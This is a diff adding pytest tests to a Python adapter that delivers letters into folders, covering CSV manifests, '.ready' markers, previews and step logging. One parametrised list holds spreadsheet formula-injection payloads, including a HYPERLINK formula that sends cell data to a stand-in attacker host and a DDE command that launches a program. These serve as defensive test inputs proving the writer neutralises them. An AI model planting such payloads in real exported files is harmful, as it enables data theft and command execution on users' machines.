@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import hashlib
 import io
 import json
 import os
+import re
 import resource
 import signal
 import subprocess
@@ -14,15 +16,28 @@ import sys
 import tracemalloc
 from collections.abc import Callable, Iterator, Mapping
 from contextlib import contextmanager
+from dataclasses import replace
 from pathlib import Path
 from typing import Any, BinaryIO
 
 import pytest
 from lxml import etree
 
-from adapters.contract import Context, Finds, FindsOnRoute, HonoursRepeats, Letter, Polls, Previews, Probes
+from adapters.contract import (
+    Context,
+    Finds,
+    FindsOnRoute,
+    HonoursRepeats,
+    Letter,
+    Polls,
+    Previews,
+    Probes,
+    Request,
+)
 from adapters.folder import FolderAdapter
+from adapters.folder_csv import write_csv
 from adapters.folder_local import LocalPlace
+from adapters.folder_place import PlaceFault, Trouble
 from gateway.domain.errors import Ambiguous, DeliveryError, Permanent, Temporary, Unavailable
 from gateway.domain.transit.envelope import Attachment
 from tests.unit.adapters.doubles import NOW, ORIGINAL, PLAN, ScriptedHttp, attachment, envelope, letter
@@ -128,6 +143,101 @@ def test_manifest_in_xml_is_what_the_mapping_says(place: Path) -> None:
     assert root.find(f"{space}absent") is None
 
 
+CSV = {"form": "csv", "mapping": {"numero": "deliveryId", "objet": "envelope.subject", "de": "senderName"}}
+
+
+def table(place: Path, text: str | None = None, separator: str = ";") -> list[list[str]]:
+    """The manifest as another reader of CSV has it."""
+    octets = (place / "in" / ID / "manifest.csv").read_bytes() if text is None else text.encode()
+    return list(csv.reader(io.StringIO(octets.decode("utf-8"), newline=""), delimiter=separator, strict=True))
+
+
+def test_manifest_in_csv_is_a_row_under_its_header(place: Path) -> None:
+    subject = 'Requête; "urgente"\r\nطلب'
+    shown = ADAPTER.preview(letter(envelope=envelope(subject=subject)), context(place, manifest=CSV))
+    ADAPTER.deliver(letter(envelope=envelope(subject=subject)), context(place, manifest=CSV))
+    octets = (place / "in" / ID / "manifest.csv").read_bytes()
+    assert (
+        octets
+        == (
+            f'"numero";"objet";"de"\r\n"{ID}";"Requête; ""urgente""\r\nطلب";"Ministère fictif du Plan"\r\n'
+        ).encode()
+    )
+    assert table(place)[1] == [ID, subject, "Ministère fictif du Plan"]
+    [manifest] = [one for one in shown if one.url.endswith("/manifest.csv")]
+    assert (manifest.body.encode(), manifest.headers["Content-Type"]) == (octets, "text/csv")
+
+
+def test_manifest_in_csv_has_a_row_for_each_entry_where_the_route_says(place: Path) -> None:
+    columns = {
+        "lettre": "deliveryId", "fichier": "row.path", "octets": "row.size", "contenu": "row.content",
+        "titre": "row.title", "test": "envelope.test",
+    }  # fmt: skip
+    form = {"form": "csv", "each": "files", "separator": ",", "bom": True, "mapping": columns}
+    ADAPTER.deliver(letter(), context(place, manifest=form))
+    octets = (place / "in" / ID / "manifest.csv").read_bytes()
+    assert octets.startswith(b'\xef\xbb\xbf"lettre","fichier","octets"')
+    header, *rows = table(place, octets.decode("utf-8-sig"), ",")
+    assert header == list(columns)
+    assert rows == [
+        [ID, "plan _été_.pdf", "20", "plan _été_.pdf", "", "false"],
+        [ID, "enveloppe-7K2M-9QXT-4RB.xml", str(len(ORIGINAL)), "enveloppe-7K2M-9QXT-4RB.xml", "", "false"],
+    ]
+    assert b",20," in octets  # a number is none of the texts that are quoted
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
+    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff20x", "\tx",
+]  # fmt: skip
+
+
+INVISIBLE = " \u00a0\u200b\ufeff"
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
+def test_text_that_a_spreadsheet_would_take_for_a_formula_is_a_text(text: str) -> None:
+    for separator in ";,\t":
+        written = write_csv(["a", "b"], [{"a": text, "b": "x"}], separator, guarded=True)
+        [row] = table(Path(), written, separator)[1:]
+        assert row[1] == "x"
+        assert row[0].lstrip(INVISIBLE).startswith("'")
+        assert row[0].replace("'", "") == text.replace("'", "")
+        assert table(Path(), write_csv(["a"], [{"a": text}], separator, False), separator)[1] == [text]
+
+
+@pytest.mark.parametrize("text", ["Objet", "1=2", "a@b.example", "طلب -1", "'=1", "", "1-2"])
+def test_other_texts_stay_as_they_are(text: str) -> None:
+    assert table(Path(), write_csv(["a"], [{"a": text}], ";", True))[1] == [text]
+
+
+@pytest.mark.parametrize("other", [",", "\t", ";", "|"])
+def test_no_text_opens_a_cell_for_who_splits_at_another_sign(other: str) -> None:
+    hostile = f'x{other}=1+1{other}"{other} =1+1\r\n=1+1{other}x'
+    written = write_csv(["a", "b"], [{"a": hostile, "b": hostile}], ";", True)
+    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=other) for cell in row]
+    assert len(cells) >= 4
+    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        {"mapping": {"a": "files[].name"}},
+        {"mapping": {"a": "files[0]"}},
+        {"mapping": {"a": "envelope.body"}},
+        {"each": "envelope.subject", "mapping": {"a": "row"}},
+        {"each": "nothing", "mapping": {"a": "row"}},
+    ],
+    ids=["a list", "a table", "no text", "no list", "nothing"],
+)
+def test_what_is_no_cell_leaves_nothing(place: Path, form: dict[str, Any]) -> None:
+    odd = letter(envelope=envelope(body="a\0b"))
+    with pytest.raises(Permanent, match="WASL-DLV-074"):
+        ADAPTER.deliver(odd, context(place, manifest={"form": "csv", **form}))
+    assert not any(place.rglob("*/*"))
+
+
 def test_letter_that_does_not_fit_the_manifest_leaves_nothing(place: Path) -> None:
     form = {"form": "xml", "mapping": {"texte": "envelope.body"}}
     strange = letter(envelope=envelope(body="a\x0bb"))
@@ -157,6 +267,56 @@ def test_readers_may_read_and_remove(place: Path, readers: str, file: int, folde
     found = place / "in" / ID
     assert found.stat().st_mode & 0o777 == folder
     assert {one.stat().st_mode & 0o777 for one in found.iterdir()} == {file}
+
+
+def test_marker_stands_beside_the_letter_and_comes_last(place: Path) -> None:
+    done, made = heard(context(place, marker_beside=".ready"))
+    ADAPTER.deliver(letter(), made)
+    assert seen(place) == {f"in/{ID}": WHOLE, f"in/{ID}.ready": set()}
+    changes = [(one.method, one.url) for one, _ in done if one.method in ("WRITE", "RENAME")]
+    assert changes[-2:] == [
+        ("RENAME", next(url for what, url in changes if what == "RENAME")),
+        ("WRITE", f"{place}/in/{ID}.ready"),
+    ]
+    shown = ADAPTER.preview(letter(), made)
+    assert (shown[-1].method, shown[-1].url, shown[-1].body) == ("WRITE", f"{place}/in/{ID}.ready", "")
+    ADAPTER.deliver(letter(), made)
+    assert seen(place) == {f"in/{ID}": WHOLE, f"in/{ID}.ready": set()}
+
+
+def test_marker_that_is_missing_is_made_by_whoever_looks(place: Path) -> None:
+    ADAPTER.deliver(letter(), context(place))
+    assert ADAPTER.find(ID, letter().reference, context(place, marker_beside=".ready")) is not None
+    assert (place / "in" / f"{ID}.ready").read_bytes() == b""
+
+
+def test_letter_that_the_system_moved_gets_no_marker_any_more(place: Path) -> None:
+    ADAPTER.deliver(letter(), context(place, marker_beside=".ready"))
+    (place / "in" / ID).rename(place / "done" / ID)
+    (place / "in" / f"{ID}.ready").unlink()
+    ADAPTER.deliver(letter(), context(place, marker_beside=".ready"))
+    assert seen(place) == {f"done/{ID}": WHOLE}
+
+
+def test_marker_that_cannot_be_made_leaves_doubt_and_the_next_look_makes_it(
+    place: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    plain = LocalPlace.write
+
+    def full(self: LocalPlace, path: tuple[str, ...], pieces: Any) -> bool:
+        if path[-1].endswith(".ready"):
+            raise PlaceFault(Trouble.FULL, "full")
+        return plain(self, path, pieces)
+
+    with monkeypatch.context() as patch:
+        patch.setattr(LocalPlace, "write", full)
+        with pytest.raises(Ambiguous, match="WASL-DLV-004"):
+            ADAPTER.deliver(letter(), context(place, marker_beside=".ready"))
+        with pytest.raises(Temporary, match="WASL-DLV-079"):
+            ADAPTER.find(ID, letter().reference, context(place, marker_beside=".ready"))
+    assert seen(place) == {f"in/{ID}": WHOLE}
+    assert ADAPTER.find(ID, letter().reference, context(place, marker_beside=".ready")) is not None
+    assert seen(place) == {f"in/{ID}": WHOLE, f"in/{ID}.ready": set()}
 
 
 # Not twice ----------------------------------------------------------------------------------------
@@ -219,20 +379,23 @@ def dying(monkeypatch: pytest.MonkeyPatch, at: int, after: bool) -> Iterator[lis
 def test_whoever_dies_at_any_point_leaves_all_or_nothing_and_the_next_attempt_one(
     place: Path, monkeypatch: pytest.MonkeyPatch, after: bool
 ) -> None:
+    made = context(place, files_folder="pieces", marker_beside=".ready")
     for number in range(1, 100):
         one = letter(delivery_id=f"{number:036d}")
         name = f"in/{one.delivery_id}"
         try:
             with dying(monkeypatch, number, after) as begun:
-                ADAPTER.deliver(one, context(place, files_folder="pieces"))
+                ADAPTER.deliver(one, made)
         except Killed:
             assert seen(place).get(name) in (None, {"manifest.json", "OK", *inner()}), begun
-            found = ADAPTER.find(one.delivery_id, one.reference, context(place))
+            assert f"{name}.ready" not in seen(place) or name in seen(place), begun
+            found = ADAPTER.find(one.delivery_id, one.reference, made)
             assert (found is not None) is (name in seen(place)), begun
         else:
             break
-        ADAPTER.deliver(one, context(place, files_folder="pieces"))
-        assert len(seen(place)) == number
+        ADAPTER.deliver(one, made)
+        assert len(seen(place)) == 2 * number
+        assert f"{name}.ready" in seen(place)
         assert seen(place)[name] == {"manifest.json", "OK", *inner()}
         assert aside(place) == []
     assert number > 10, "the changes were not seen"
@@ -530,18 +693,73 @@ def test_what_others_write_aside_is_left_alone(place: Path) -> None:
 # Trying -------------------------------------------------------------------------------------------
 
 
-def test_preview_shows_every_file_and_touches_nothing(place: Path) -> None:
+def test_preview_shows_every_change_and_touches_nothing(place: Path) -> None:
     shown = ADAPTER.preview(letter(), context(place))
-    assert [request.url.rpartition("/")[2] for request in shown] == [
-        "plan _été_.pdf",
-        "enveloppe-7K2M-9QXT-4RB.xml",
-        "manifest.json",
-        "OK",
+    assert [(request.method, request.url.rpartition("/")[2]) for request in shown] == [
+        ("MKDIR", f"{ID}~‹random›"),
+        ("WRITE", "plan _été_.pdf"),
+        ("WRITE", "enveloppe-7K2M-9QXT-4RB.xml"),
+        ("WRITE", "manifest.json"),
+        ("WRITE", "OK"),
+        ("RENAME", f"{ID}~‹random›"),
     ]
-    assert shown[0].url == f"{place}/in/{ID}/plan _été_.pdf"
-    assert "20 octets" in shown[0].body
-    assert "طلب تجريبي" in shown[2].body
+    assert shown[1].url == f"{place}/.wasl/{ID}~‹random›/plan _été_.pdf"
+    assert shown[1].headers["SHA-256"] == hashlib.sha256(PLAN).hexdigest()
+    assert "20 octets" in shown[1].body
+    assert "طلب تجريبي" in shown[3].body
+    assert shown[5].headers == {"To": f"{place}/in/{ID}"}
     assert not any(place.rglob("*/*"))
+
+
+def test_preview_shows_what_a_delivery_then_does(place: Path) -> None:
+    done, made = heard(context(place, files_folder="pieces", staging="aside/deep"))
+    shown = ADAPTER.preview(letter(), made)
+    ADAPTER.deliver(letter(), made)
+    changes = [one for one, _ in done if one.method in ("MKDIR", "WRITE", "RENAME")]
+    assert [one.url for one in changes[:2]] == [f"{place}/aside", f"{place}/aside/deep"]  # once for a route
+    own = re.compile(r"~[0-9a-f]{12}")
+    assert [replace(one, url=own.sub("~‹random›", one.url)) for one in changes[2:]] == list(shown)
+
+
+def heard(made: Context) -> tuple[list[tuple[Request, str]], Context]:
+    """The steps that are told in a context, each with its last answer, in the order of their ends."""
+    steps: list[tuple[Request, str]] = []
+
+    @contextmanager
+    def step(request: Request) -> Iterator[Callable[[str], None]]:
+        said: list[str] = [""]
+        try:
+            yield said.append
+        finally:
+            steps.append((request, said[-1]))
+
+    return steps, replace(made, step=step)
+
+
+def test_every_step_is_told_with_what_came_of_it(place: Path) -> None:
+    done, made = heard(context(place, read_back=True))
+    ADAPTER.deliver(letter(), made)
+    told = [(one.method, one.url.removeprefix(f"{place}/"), said) for one, said in done]
+    assert told[:4] == [
+        ("OPEN", str(place), "open"),
+        ("LIST", ".wasl", ".wasl: No such file or directory: not there"),
+        ("STAT", f"in/{ID}", "not there"),
+        ("STAT", f"done/{ID}", "not there"),
+    ]
+    staged = next(url for what, url, _ in told if what == "RENAME")
+    assert ("WRITE", f"{staged}/plan _été_.pdf", "20 octets, on the disk") in told
+    assert ("READ", f"{staged}/plan _été_.pdf", "20 octets") in told
+    assert ("SYNC", staged, "done") in told
+    assert told[-3:] == [("RENAME", staged, "done"), ("SYNC", "in", "done"), ("SYNC", ".wasl", "done")]
+
+
+def test_look_up_tells_where_it_looked(place: Path) -> None:
+    ADAPTER.deliver(letter(), context(place))
+    done, made = heard(context(place))
+    ADAPTER.find(ID, letter().reference, made)
+    assert [(one.method, said) for one, said in done] == [
+        ("OPEN", "open"), ("LIST", "0 names"), ("STAT", "folder"),
+    ]  # fmt: skip
 
 
 def test_probe_says_where_letters_appear_and_leaves_nothing(place: Path) -> None:
@@ -630,6 +848,17 @@ def test_good_options_have_no_fault(changes: dict[str, Any]) -> None:
         ({"files_folder": "a/b"}, "files_folder"),
         ({"marker": "a/b"}, "marker"),
         ({"marker": "manifest.json"}, "marker"),
+        ({"marker_beside": "ready"}, "marker_beside"),
+        ({"marker_beside": "."}, "marker_beside"),
+        ({"marker_beside": "./x"}, "marker_beside"),
+        ({"marker_beside": ".a.b"}, "marker_beside"),
+        ({"manifest": {"form": "csv", "mapping": {}}}, "manifest.mapping"),
+        ({"manifest": {"form": "csv", "mapping": {"a": {"b": "x"}}}}, "manifest.mapping.a"),
+        ({"manifest": {"form": "csv", "mapping": {"a": ["x"]}}}, "manifest.mapping.a"),
+        ({"manifest": {**CSV, "each": "]"}}, "manifest.each"),
+        ({"manifest": {**CSV, "separator": '"'}}, "manifest.separator"),
+        ({"manifest": {**CSV, "bom": "yes"}}, "manifest.bom"),
+        ({"manifest": {**MANIFEST, "each": "files"}}, "manifest.each"),
         ({"files_folder": "x", "marker": "x"}, "files_folder"),
         ({"manifest": None}, "manifest"),
         ({"manifest": {}}, "manifest.mapping"),
